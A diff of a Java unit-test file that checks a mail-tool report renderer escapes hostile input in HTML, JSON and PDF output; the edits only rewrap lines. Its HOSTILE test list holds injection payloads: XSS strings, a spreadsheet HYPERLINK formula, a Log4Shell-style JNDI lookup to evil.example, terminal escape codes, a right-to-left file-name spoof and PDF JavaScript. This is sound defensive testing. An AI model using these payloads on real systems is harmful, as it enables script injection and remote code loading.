@@ -47,10 +47,13 @@ final class RenderersTest {
     private static final Path GOLDEN = Path.of("src", "test", "resources", "org", "mailmedic", "report", "golden");
     private static final List<String> OUTCOMES = Fixtures.FIRST;
     /// What somebody could put where we show text: for a browser, a terminal, a spreadsheet, the eye, a parser, a layout.
-    private static final List<String> HOSTILE = List.of("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</style><script>alert(2)</script>",
+    private static final List<String> HOSTILE = List.of("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
+            "</style><script>alert(2)</script>",
             "</title></svg>--><iframe src='https://evil.example/'>", "javascript:alert(1)", "\u001b]0;owned\u0007\u001b[2J\u001b[31m",
-            "safe\u202egnp.exe\u2066x\u2069", "a\u0000b\u0001c\u007f\u0085\u2028\u2029d", "=HYPERLINK(\"https://evil.example/\")", "\ud800 lone \udc00 surrogates",
-            "W".repeat(20_000), "x\u0301".repeat(2000), "\ud83d\udd11日本語العربيةไทย", "&amp;&lt;&#0;&#x202e;", "%s%n%d{host}${jndi:ldap://evil.example/}",
+            "safe\u202egnp.exe\u2066x\u2069", "a\u0000b\u0001c\u007f\u0085\u2028\u2029d", "=HYPERLINK(\"https://evil.example/\")",
+            "\ud800 lone \udc00 surrogates",
+            "W".repeat(20_000), "x\u0301".repeat(2000), "\ud83d\udd11日本語العربيةไทย", "&amp;&lt;&#0;&#x202e;",
+            "%s%n%d{host}${jndi:ldap://evil.example/}",
             "\r\n\r\nHTTP/1.1 200", "]]><!--", "(\\) Tj ET Q /Evil <</S /JavaScript>>");
 
     private static String html(Report report) {
@@ -80,7 +83,8 @@ final class RenderersTest {
         forms.put("html", report -> unstyled(html(report)));
         forms.put("json", JsonReport::write);
         forms.put("pdf.txt", report -> pdfText(pdf(report)));
-        return OUTCOMES.stream().flatMap(name -> forms.entrySet().stream().map(form -> DynamicTest.dynamicTest(name + "." + form.getKey(), () -> {
+        return OUTCOMES.stream().flatMap(name -> forms.entrySet().stream()
+                .map(form -> DynamicTest.dynamicTest(name + "." + form.getKey(), () -> {
             String actual = form.getValue().apply(masked(name));
             Path file = GOLDEN.resolve(name + "." + form.getKey());
             if ("write".equals(System.getProperty("golden"))) {
@@ -105,24 +109,30 @@ final class RenderersTest {
         }
         settings.put("port", 587);
         var evidence = new ArrayList<Map<String, Object>>();
-        for (String kind : List.of("dns", "tcp", "greeting", "hello", "starttls", "tls", "sign_in", "sender", "message", "page", "clock", "dns_canary",
+        for (String kind : List.of("dns", "tcp", "greeting", "hello", "starttls", "tls", "sign_in", "sender", "message", "page", "clock",
+                "dns_canary",
                 "firewall", "interfaces", "path", "long_line", "defect", "unheard_of")) {
             Map<String, Object> facts = new LinkedHashMap<>();
             for (String name : List.of("resolver", "name", "host", "address", "url", "raw", "local", "command", "body", text)) {
                 facts.put(name, text);
             }
-            facts.putAll(Map.of("id", "e" + evidence.size(), "kind", kind, "stage", text, "status", "failed", "started_ms", 1.0, "duration_ms", 2.0,
+            facts.putAll(Map.of("id", "e" + evidence.size(), "kind", kind, "stage", text, "status", "failed", "started_ms", 1.0,
+                    "duration_ms", 2.0,
                     "role", "target", "port", 25, "reply", Map.of("code", 550, "text", text)));
             facts.put("addresses", List.of(text, text));
-            facts.put("certificate", Map.of("names", List.of(text), "problems", List.of(text), "chain", List.of(Map.of("subject", text, "issuer", text, "names",
-                    List.of(text), "not_before", text, "not_after", text, "serial", text, "sha256", text, "key_type", text, "signature_algorithm", text))));
+            facts.put("certificate", Map.of("names", List.of(text), "problems", List.of(text), "chain",
+                    List.of(Map.of("subject", text, "issuer", text, "names",
+                    List.of(text), "not_before", text, "not_after", text, "serial", text, "sha256", text, "key_type", text,
+                    "signature_algorithm", text))));
             if (kind.equals("tcp")) {
                 facts.put("failure", text);
             }
             evidence.add(facts);
         }
-        return new Report(text, Samples.CREATED, new Report.Tool(text, text, text, text), settings, Report.Outcome.PROBLEM, List.of(verdict, verdict),
-                List.of(verdict), List.of(new Report.StageResult("dns", text, 0, 1), new Report.StageResult(text, "failed", 1, 2)), evidence,
+        return new Report(text, Samples.CREATED, new Report.Tool(text, text, text, text), settings, Report.Outcome.PROBLEM,
+                List.of(verdict, verdict),
+                List.of(verdict), List.of(new Report.StageResult("dns", text, 0, 1), new Report.StageResult(text, "failed", 1, 2)),
+                evidence,
                 List.of(new Report.Line(1, "server", text), new Report.Line(2, text, text)), 9, List.of(text));
     }
 
@@ -133,8 +143,10 @@ final class RenderersTest {
             inert(html);
             var names = new TreeSet<String>();
             walk(parsed(html).getDocumentElement(), names);
-            assertEquals(List.of(), names.stream().filter(name -> !List.of("html", "head", "meta", "title", "style", "body", "main", "header", "svg", "rect", "g",
-                    "path", "span", "p", "h1", "h2", "h3", "ol", "ul", "li", "strong", "div", "section", "article", "table", "caption", "thead", "tbody", "tr",
+            assertEquals(List.of(), names.stream().filter(name -> !List.of("html", "head", "meta", "title", "style", "body", "main",
+                    "header", "svg", "rect", "g",
+                    "path", "span", "p", "h1", "h2", "h3", "ol", "ul", "li", "strong", "div", "section", "article", "table", "caption",
+                    "thead", "tbody", "tr",
                     "th", "td", "footer").contains(name)).toList(), "elements that are not ours");
         }));
     }
@@ -147,7 +159,8 @@ final class RenderersTest {
 
     /// Read as XML after the few elements without an end were given one: a second, strict parser finds what a browser would forgive.
     private static Document parsed(String html) throws Exception {
-        String xml = html.replaceFirst("<!DOCTYPE html>", "").replaceAll("(<meta [^>]*[^/])>", "$1/>").replaceAll("(?s)<style>.*?</style>", "<style/>");
+        String xml = html.replaceFirst("<!DOCTYPE html>", "").replaceAll("(<meta [^>]*[^/])>",
+                "$1/>").replaceAll("(?s)<style>.*?</style>", "<style/>");
         var factory = DocumentBuilderFactory.newInstance();
         factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
         return factory.newDocumentBuilder().parse(new InputSource(new StringReader(xml)));
@@ -223,7 +236,8 @@ final class RenderersTest {
             assertEquals("en", catalog.getLanguage());
             assertTrue(catalog.getMarkInfo().isMarked());
             assertTrue(catalog.getViewerPreferences().displayDocTitle());
-            assertEquals("Your Internet provider or router blocks port 587 (mail.gmx.example)", document.getDocumentInformation().getTitle());
+            assertEquals("Your Internet provider or router blocks port 587 (mail.gmx.example)",
+                    document.getDocumentInformation().getTitle());
             var root = catalog.getStructureTreeRoot();
             assertNotNull(root.getParentTree());
             var types = new ArrayList<String>();
@@ -292,7 +306,8 @@ final class RenderersTest {
 
     @Test
     void anEmptyReportIsShownToo() {
-        var empty = new Report("", Samples.CREATED, new Report.Tool("", "", "", ""), Map.of(), Report.Outcome.PROBLEM, List.of(), List.of(), List.of(),
+        var empty = new Report("", Samples.CREATED, new Report.Tool("", "", "", ""), Map.of(), Report.Outcome.PROBLEM, List.of(),
+                List.of(), List.of(),
                 List.of(), List.of(), 0);
         assertTrue(html(empty).contains("Something stops your mail"));
         assertTrue(pdfText(pdf(empty)).contains("Something stops your mail"));
@@ -309,7 +324,8 @@ final class RenderersTest {
             evidence.add(facts);
             lines.add(new Report.Line(i, "server", "250 line " + i));
         }
-        var huge = new Report(report.id(), report.created(), report.tool(), report.settings(), report.outcome(), report.diagnoses(), report.warnings(),
+        var huge = new Report(report.id(), report.created(), report.tool(), report.settings(), report.outcome(), report.diagnoses(),
+                report.warnings(),
                 report.stages(), evidence, lines, report.totalMs());
         assertTrue(html(huge).contains("And 2800 more."));
         assertTrue(pdfText(pdf(huge)).contains("And 2600 more."));
